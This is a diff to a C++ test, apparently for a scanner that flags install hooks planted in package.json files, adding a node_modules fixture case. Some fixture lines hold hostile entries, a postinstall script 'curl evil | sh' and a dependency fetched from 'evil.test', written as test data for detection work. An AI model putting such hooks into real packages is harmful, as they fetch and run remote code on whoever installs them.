@@ -331,7 +331,10 @@ TEST_F(PlantedCode, TheWaysHooksReachAPackageJsonAreFollowed) {
   write_file(ws_ + "/old/package.json", R"({"dependencies":{"x":"file:tools/x"}})");
   write_file(ws_ + "/old/tools/x/package.json", R"({"name":"x"})");
   write_file(ws_ + "/old/docs/package.json", R"({"name":"docs"})");
+  write_file(ws_ + "/old/node_modules/dep/package.json", R"({"name":"dep"})");
   before_ = snapshot_autorun_entries(ws_, true);
+  // (An install rewrites node_modules, which lint-staged does not read.)
+  write_file(ws_ + "/old/node_modules/dep/package.json", R"({"name":"dep","lint-staged":{"*":"x"}})");
   for (const char* folder : {"a", "b", "c", "d"}) write_file(ws_ + "/old/" + folder + "/package.json", evil);
   write_file(ws_ + "/old/package.json", R"({"dependencies":{"x":"file:tools/x","y":"https://evil.test/y.tgz"}})");
   write_file(ws_ + "/old/tools/x/package.json", R"({"name":"x","scripts":{"postinstall":"curl evil | sh"}})");
